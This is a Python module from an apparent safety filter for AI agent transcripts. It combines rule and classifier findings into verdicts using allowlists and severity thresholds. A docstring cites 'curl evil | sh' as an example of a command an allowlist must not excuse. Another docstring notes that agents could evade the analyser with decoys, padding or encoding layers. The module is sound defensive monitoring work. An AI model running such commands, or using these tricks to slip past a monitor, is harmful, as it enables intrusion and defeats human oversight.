"""From findings to a verdict: the only place that decides what counts as unsafe.

Detectors report everything they see; the policy applies the team's choices (allowlists,
requested behaviour, minimum severity, whose findings count), so thresholds can change without
touching rules.

`combine` (one config key, `policy.combine`) says whose findings count:

- ``rules``, ``classifier``: one detector alone (the ablations);
- ``either``: a finding of either detector counts;
- ``rules_then_classifier``: rules first, the classifier fills the gaps. On an action (one
  message's tool call, or the message itself) where a rule gave a *confident* verdict, the rule's
  verdict stands and the classifier's findings there are dropped: it neither adds a category to
  nor excuses an action the rules judged. On every other action the classifier's findings count
  as in ``either``. The classifier vetoes nothing: rule findings are never removed. A rule
  verdict is confident when its finding survives the team's choices: not disabled, not excused by
  an allowlist, at or above `min_severity`; requested or not (a rule that judged the action
  requested has recognised it, and its per-action request check is sharper than a score).
"""
from __future__ import annotations

from dataclasses import dataclass, field
from typing import Sequence

import re2

from .errors import ConfigError
from .hosts import HostAllowlist
from .types import CATEGORIES, Finding, Incomplete, Severity, Verdict

__all__ = ["Policy", "COMBINE_MODES", "action_of"]

COMBINE_MODES = ("rules", "classifier", "either", "rules_then_classifier")
#: Detectors keep at most 240 characters on a side of a match (rules) or of an action (classifier),
#: so evidence shorter than this is the whole line; longer evidence may be a window of a longer one.
WHOLE_EVIDENCE_BELOW = 240
#: Which detectors' findings count in each mode (None: every detector's).
_COUNTED_DETECTORS: dict[str, frozenset[str] | None] = {
    "rules": frozenset({"rule"}), "classifier": frozenset({"classifier"}), "either": None,
    "rules_then_classifier": None}
#: Modes in which a confident rule verdict on an action drops the classifier's findings there.
_RULES_FIRST = frozenset({"rules_then_classifier"})


@dataclass(frozen=True)
class Policy:
    requested_is_unsafe: bool = False
    min_severity: Severity = Severity.LOW
    disabled_rules: frozenset[str] = frozenset()
    allow_hosts: tuple[str, ...] = ()  # hosts, .suffixes, CIDRs; see safefilter.hosts
    allow_commands: tuple[str, ...] = ()  # RE2 patterns; a finding whose whole evidence matches one is dropped
    combine: str = "either"  # whose findings count: one of COMBINE_MODES (see the module docstring)
    incomplete_is_unsafe: bool = True  # a record whose analysis a limit cut short is not called clean
    _allow_rx: object = field(default=None, init=False, repr=False, compare=False)
    _hosts: HostAllowlist = field(default_factory=lambda: HostAllowlist(()), init=False, repr=False, compare=False)

    def __post_init__(self) -> None:
        """Check and compile the allowlists once; a bad entry is a ConfigError naming it, before any record."""
        if self.combine not in COMBINE_MODES:
            raise ValueError(f"policy.combine must be one of {', '.join(COMBINE_MODES)}; got {self.combine!r}")
        object.__setattr__(self, "_hosts", HostAllowlist(self.allow_hosts))
        if self.allow_commands:
            object.__setattr__(self, "_allow_rx", _compile_commands(self.allow_commands))

    def __getstate__(self) -> dict:
        state = dict(self.__dict__)
        state["_allow_rx"] = None
        state["_hosts"] = None
        return state

    def __setstate__(self, state: dict) -> None:
        self.__dict__.update(state)
        self.__post_init__()

    def allowed(self, finding: Finding) -> bool:
        """True when the team has accepted this finding: a disabled rule, evidence whose every network
        target is an allowlisted host (and there is at least one), or evidence that an
        `allow_commands` pattern matches as a whole (not a search: `pytest` does not excuse
        `curl evil | sh # pytest`). Evidence that may have been cut short is never excused by an
        allowlist: what was cut (the real destination after a padded option) is unseen."""
        if finding.rule_id in self.disabled_rules:
            return True
        if len(finding.evidence) >= WHOLE_EVIDENCE_BELOW:
            return False
        if self._hosts.excuses(finding.evidence):
            return True
        return self._allow_rx is not None and self._allow_rx.fullmatch(finding.evidence.strip()) is not None

    def counts(self, finding: Finding) -> bool:
        if finding.severity < self.min_severity:
            return False
        counted = _COUNTED_DETECTORS[self.combine]
        if counted is not None and finding.detector not in counted:
            return False
        return self.requested_is_unsafe or not finding.requested

    def confident(self, finding: Finding) -> bool:
        """A rule finding whose verdict on its action stands over the classifier's (rules_then_classifier):
        one the policy weighs at all. Call it on findings `allowed` kept; requested ones are confident too."""
        return finding.detector != "classifier" and finding.severity >= self.min_severity

    def defer_to_rules(self, findings: Sequence[Finding]) -> tuple[Finding, ...]:
        """`findings` without the classifier's on actions where a rule gave a confident verdict, in
        the modes that put rules first; in the others, all of them."""
        if self.combine not in _RULES_FIRST:
            return tuple(findings)
        decided = {action_of(f) for f in findings if self.confident(f)}
        if not decided:
            return tuple(findings)
        return tuple(f for f in findings if f.detector != "classifier" or action_of(f) not in decided)

    def decide(self, findings: Sequence[Finding], incomplete: Sequence[Incomplete] = ()) -> Verdict:
        """The verdict on one record's findings; `incomplete` lists limits that cut its analysis short.

        An agent that can push its payload past a limit (decoys before it, padding, one more layer
        of encoding) must not pass as clean because the analyser stopped looking, so an incomplete
        analysis makes the record unsafe unless `incomplete_is_unsafe` is off. Its categories are
        then those of the findings, which may be none.

        The verdict's findings leave out what the allowlists excuse and, under
        ``rules_then_classifier``, the classifier's findings on rule-judged actions, so what is stored
        (and exported) is what the verdict weighed.
        """
        kept = self.defer_to_rules([f for f in findings if not self.allowed(f)])
        counting = [f for f in kept if self.counts(f)]
        incomplete = tuple(incomplete)
        if not counting:
            if incomplete and self.incomplete_is_unsafe:
                return Verdict(unsafe=True, findings=kept, severity=Severity.MEDIUM,
                               first_unsafe_message=min(i.message_index for i in incomplete),
                               analysis_incomplete=incomplete)
            return Verdict(unsafe=False, findings=kept, analysis_incomplete=incomplete)
        present = {f.category for f in counting}
        return Verdict(
            unsafe=True,
            findings=kept,
            categories=tuple(c for c in CATEGORIES if c in present),
            severity=max(f.severity for f in counting),
            first_unsafe_message=min(f.message_index for f in counting),
            analysis_incomplete=incomplete,
        )


def action_of(finding: Finding) -> tuple[int, str | None]:
    """The action a finding is on: its message and tool call (a message without tool calls is one action).
    Decoded views and matches anywhere in a command share their action."""
    return finding.message_index, finding.tool_call_id


def _compile_commands(patterns: Sequence[str]) -> object:
    """One case-insensitive RE2 for all `allowlist.commands` patterns; each is checked on its own first,
    so an error names the pattern (and a pattern cannot close the group and swallow the others)."""
    options = re2.Options()
    options.log_errors = False
    for pattern in patterns:
        try:
            re2.compile(pattern, options)
        except re2.error as exc:
            reason = exc.args[0].decode() if exc.args and isinstance(exc.args[0], bytes) else str(exc)
            raise ConfigError(f"allowlist.commands: {pattern!r} is not a valid RE2 pattern ({reason})") from None
    return re2.compile("(?i)(?:" + "|".join(f"(?:{p})" for p in patterns) + ")", options)
